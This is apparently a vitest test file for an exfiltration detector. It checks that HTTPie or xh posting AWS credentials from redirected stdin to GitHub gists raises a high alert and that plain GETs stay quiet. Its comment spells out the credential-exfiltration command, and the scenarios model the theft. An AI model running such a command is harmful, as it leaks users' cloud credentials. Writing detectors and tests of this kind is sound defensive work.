/**
 * HTTPie's body from redirected stdin (red-team review): `https api.github.com/gists < creds.json` POSTs the
 * file (HTTPie and xh read stdin whenever it is no terminal), but its argv has a GET's shape and it raised
 * nothing. A request saying GET, or told to ignore stdin, stays quiet. Checked as exported Tetragon and Falco JSON
 * lines through the real scan path; kept out of the scenario library (the bench's workload).
 */
import { describe, expect, it } from 'vitest';
import type { SensorForm } from '../../src/scenarios/index.js';
import { briefOf, inlineScenario, runInlineScenario } from './harness.js';

const CREDS = '/home/dev/.aws/credentials';

/** The shell's redirect makes the credentials the client's stdin: the client reads them itself. */
async function alertsOf(name: string, binary: string, args: string, form: SensorForm) {
  const s = inlineScenario(name, { 'api.github.com': '140.82.121.6' }, [
    { at: '1s', exec: { id: 'http', parent: 'app', binary, args, uid: 1000 } },
    { after: '3ms', read: { proc: 'http', path: CREDS, bytes: 116 } },
    { after: '5ms', upload: { proc: 'http', to: 'api.github.com:443', bytes: '2KiB', over: '300ms' } },
    { after: '10ms', exit: { proc: 'http' } },
  ]);
  return (await runInlineScenario(s, form)).alerts.map(briefOf);
}

describe("HTTPie's body from stdin", () => {
  for (const form of ['tetragon', 'falco'] as const) {
    it(`a gist posted from redirected stdin by https or xh is high (${form})`, async () => {
      const high = (tool: string) => [
        { rule: 'sensitive-read-then-push', severity: 'high', tool, destination: 'api.github.com' },
      ];
      expect(await alertsOf('https-stdin', '/usr/bin/https', 'api.github.com/gists', form)).toEqual(high('httpie'));
      expect(await alertsOf('xh-stdin', '/usr/bin/xh', '-a u:t https://api.github.com/gists', form)).toEqual(
        high('httpie'),
      );
    });

    it(`a GET, or a request ignoring stdin, is quiet (${form})`, async () => {
      expect(await alertsOf('http-get', '/usr/bin/http', 'GET api.github.com/user', form)).toEqual([]);
      const ignoring = '--ignore-stdin https://api.github.com/repos/acme/app';
      expect(await alertsOf('http-ignore-stdin', '/usr/bin/http', ignoring, form)).toEqual([]);
    });
  }
});
